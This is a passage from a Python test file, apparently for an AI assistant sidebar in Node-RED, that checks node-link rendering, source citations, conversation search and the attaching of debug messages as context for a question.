    assert not seen["afterEscape"]["drawerOpen"] and not seen["afterClickOutside"]["drawerOpen"]
    # After a reload too.
    reloaded = seen["reloaded"]
    assert reloaded["draft"] == drafts[0] + "!" and reloaded["scrolls"] and reloaded["atBottom"], reloaded
    assert seen["narrowWidth"] <= 260
    assert seen["narrowOpen"]["drawerOpen"] and not seen["narrowAfterEscape"]["drawerOpen"]


def knowledge_indexed(nodered: NodeRed) -> None:
    """Wait until the service's knowledge index holds the node help and the workspace (its first background
    refresh after the start: it reads Node-RED with the service's own access, none under adminAuth here)."""
    deadline = time.monotonic() + 60
    while True:
        with urllib.request.urlopen(f"{nodered.url}/ai-sidebar/knowledge", timeout=10) as response:
            stores = json.loads(response.read()).get("stores", {})
        if all(stores.get(name, {}).get("chunks", 0) > 0 for name in ("docs", "workspace")):
            return
        assert time.monotonic() < deadline, stores
        time.sleep(0.5)


def test_node_ids_and_names_in_answers_reveal_the_node_and_tool_sources_link_to_help_and_nodes(
        nodered, service_process, model):
    # The stack without adminAuth: there the service indexes the node help and the workspace with its own access.
    knowledge_indexed(nodered)
    tab = tab_named(nodered, "01 - Catch error")
    celsius, total = "3b66265b19190dfa", "ea37b0719708e9cf"
    model.script(
        Reply(text=f"Use the **csv** node. In your flows `to Celsius + validate` ({celsius}) converts readings, and "
                   f"compute total adds up orders.\n\n```json\n[{{\"id\": \"{celsius}\", \"type\": \"function\", "
                   f"\"name\": \"compute total\"}}]\n```\n\nOr as one line: `{{\"id\": \"{total}\"}}`."),
        Reply(tool_calls=[{"name": "search_workspace", "arguments": {"query": "compute total order"}}]),
        Reply(text=f"The order total was computed by compute total ({total})."))

    seen = run_feature(nodered, "node-links", tab["id"], USERNAME="", LINK_ID=celsius, GONE_ID=total,
                       NARROW_WIDTH="240",
                       QUESTIONS=json.dumps(["which node can I use to parse CSV?", "Please look that up for me"]))

    first = seen["first"]
    assert [(link["text"], link["id"], link["codeInside"]) for link in first["links"]] == [
        ("to Celsius + validate", celsius, True), (celsius, celsius, False), ("compute total", total, False)]
    assert first["links"][1]["title"] == "Show to Celsius + validate in the workspace"
    # Nothing in the code block or in inline flow JSON became a link.
    assert not any(link["inPre"] for link in first["links"])
    assert celsius in first["preText"][0] and first["plainCode"] == [f'{{"id": "{total}"}}']
    # The router's search_node_docs listed its sources under its card: csv's help first.
    help_sources = [s for s in first["sources"] if s["type"]]
    assert help_sources[0] == {"tag": "a", "text": "Help: csv", "id": None, "type": "csv", "afterCard": True}
    assert seen["afterReveal"] == tab_named(nodered, "Sensor telemetry")["id"]
    assert seen["help"].startswith("csv\n") and "Converts between a CSV formatted string" in seen["help"]

    assert seen["goneDeleted"]
    second = seen["second"]
    # The deleted node is named by the answer and the sources, as plain text only.
    assert second["links"] == []
    gone = [s for s in second["sources"] if s["id"] == total]
    assert gone == [{"tag": "span", "text": "compute total (Order webhook (has a bug)) (no longer in the workspace)",
                     "id": total, "type": None, "afterCard": True}]
    assert any(s["tag"] == "a" and s["id"] != total for s in second["sources"]), second["sources"]
    revealed = seen["revealedSource"]
    assert seen["afterSource"] == next((n["z"] for n in nodered.flows if n["id"] == revealed and "z" in n), revealed)
    assert seen["narrowWidth"] <= 260 and seen["narrow"]["sourcesInside"] and first["sourcesInside"]


def test_conversations_are_found_by_text_and_open_at_the_matching_message(auth_stack, model):
    nodered, _ = auth_stack
    tab = tab_named(nodered, "01 - Catch error")
    filler = "\n\n".join(f"Paragraph {i}: the catch node passes msg.error on." for i in range(10))
    model.script(Reply(text="The quokkaflow pattern: a catch node, then a debug node.\n\n" + filler),
                 Reply(text=filler), Reply(text=filler), Reply(text="Something else entirely."))

    seen = run_feature(nodered, "search", tab["id"], WORD="quokkaflow", OTHER="What does the inject node do?",
                       NARROW_WIDTH="240", QUESTIONS=json.dumps(["Which error pattern is this?", "And then?",
                                                                 "And after that?"]))

    found = seen["found"]
    assert found["fieldLabel"] == "Search conversations"
    assert [(row["id"], row["name"], row["marked"]) for row in found["rows"]] == [
        (seen["first"], "Which error pattern is this?", ["quokkaflow"])]
    assert "quokkaflow" in found["rows"][0]["snippet"]
    opened = seen["opened"]
    assert seen["openedSession"] == seen["first"] and opened["questions"] == 3
    # It opened at the answer that holds the word, not at the latest message.
    assert opened["text"].split()[:3] == ["Assistant", "The", "quokkaflow"] and opened["inView"]
    assert not opened["atBottom"]
    assert seen["noMatch"]["rows"] == [] and seen["noMatch"]["note"] == "No conversation contains “xylophonequartz”."
    assert seen["failed"]["note"] == "The search failed: The memory database is not open."
    assert seen["narrowWidth"] <= 260
    assert [row["id"] for row in seen["narrow"]["rows"]] == [seen["first"]], seen["narrow"]
    assert seen["narrow"]["rows"][0]["inside"]


def test_the_recent_debug_messages_of_the_open_flow_go_with_a_question_and_show_as_its_context(auth_stack, model):
    nodered, _ = auth_stack
    tab = tab_named(nodered, "02 - Set any property value")
    inject = next(n for n in nodered.nodes_of(tab["id"]) if n["type"] == "inject")
    debug = next(n for n in nodered.nodes_of(tab["id"]) if n["type"] == "debug")
    empty = tab_named(nodered, "02 - Send multiple messages")
    model.script(Reply(text="Each message carries the payload the change node set."))

    seen = run_feature(nodered, "recent-debug", tab["id"], INJECT_ID=inject["id"], COUNT="2", EMPTY_TAB=empty["id"],
                       NARROW_WIDTH="240", QUESTION="Why does the payload look like this?")

    assert seen["noneNotice"] == ("The Debug sidebar has no recent messages of the selected nodes or the open flow.")
    assert seen["noneAttached"] == 0
    assert seen["buttonLabel"] == "Attach the recent debug messages of the selected nodes (or of the open flow)"
    assert len(seen["attached"]) == 2 and seen["chip"].endswith("· no nodes selected · 2 debug messages")
    assert seen["narrowWidth"] <= 260 and seen["narrowChip"] == {"buttonInside": True, "chipInside": True}
    # Both went to the model as data, from the debug node, and the question's context line says so.
    sent = model.requests[-1]["messages"][-1]["content"]
    assert sent.startswith("Why does the payload look like this?\n\nDebug messages attached to this question")
    assert sent.count("<debug_message>") == 2 and sent.count(f"(id {debug['id']})") == 2
    assert seen["sent"][-1] == f"Flow: {tab['label']} · no nodes selected · 2 debug messages"
    assert seen["attachedAfterSend"] == 0
